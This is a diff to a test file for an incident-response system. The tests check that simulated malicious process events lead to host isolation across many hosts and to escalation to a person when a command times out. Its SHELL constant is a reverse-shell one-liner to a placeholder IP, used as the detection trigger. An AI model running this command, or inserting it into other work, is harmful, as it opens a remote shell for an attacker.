@@ -2,9 +2,9 @@ import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { FakeClock } from '@firebreak/shared/clock.fake.ts'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
-import type { StateStore } from '../store/state/state-store.ts'
-import { SHIPPED_PLAYBOOKS } from './playbook-files.ts'
-import { processEvent, Rig, type RigOptions, Site } from './story.rig.ts'
+import type { StateStore } from './store/state/state-store.ts'
+import { SHIPPED_PLAYBOOKS } from './respond/playbook-files.ts'
+import { processEvent, Rig, type RigOptions, Site } from './deciding.fixture.ts'
 
 const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
 
@@ -191,14 +191,14 @@ describe('from an event to an order', () => {
   })
 
   it('looks at every host of an incident of many, a hundred at a time', async () => {
-    const rig = await started({
-      respond: { budgets_per_hour: { 'isolate-host': 1_000, 'release-host': 0, 'kill-process': 0 } },
-    })
-    for (let i = 0; i < 250; i++) await rig.commit(await rig.host(`h${i}`), [processEvent(clock, SHELL)])
+    const budgets = { 'isolate-host': 1_000, 'release-host': 0, 'kill-process': 0 }
+    const rig = await started({ respond: { budgets_per_hour: budgets } })
+    const hosts = await Promise.all(Array.from({ length: 220 }, (_, index) => rig.host(`h${index}`)))
+    await Promise.all(hosts.map((host) => rig.commit(host, [processEvent(clock, SHELL)])))
     await rig.settle()
     expect(await incidents(rig)).toHaveLength(1)
-    expect(new Set((await commands(rig)).map((command) => command.agent_id)).size).toBe(250)
-  })
+    expect(new Set((await commands(rig)).map((command) => command.agent_id)).size).toBe(220)
+  }, 60_000)
 
   it('hands an incident to a person when playbooks are switched off', async () => {
     const rig = await started({ respond: { automatic: false } })
@@ -276,11 +276,11 @@ describe('a run', () => {
   })
 
   it('ends and asks a person when its command comes to no end in time', async () => {
-    const rig = await started()
+    const rig = await started({ respond: { rescan_ms: 3_600_000 } })
     await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
     await rig.settle()
     // Four hours for the host to come, a minute for the command, two of grace, and the next look at what waits.
-    await clock.advance((14_400 + 60 + 120 + 31) * 1000)
+    await clock.advance((14_400 + 60 + 120) * 1000 + 3_600_000)
     await rig.settle()
     expect(await rig.run()).toMatchObject({ state: 'failed' })
     expect((await incidents(rig))[0]?.escalated_why).toContain('whether it took effect is unknown')
